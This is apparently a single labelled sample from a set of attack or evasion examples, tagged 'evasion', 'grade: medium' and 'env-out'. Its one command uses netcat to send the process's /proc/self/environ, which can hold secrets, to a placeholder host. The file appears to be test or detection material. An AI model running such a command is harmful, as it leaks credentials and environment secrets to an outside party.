# evasion: /proc/self/environ sent with nc
# grade: medium; does: env-out
nc c.example 9000 < /proc/self/environ
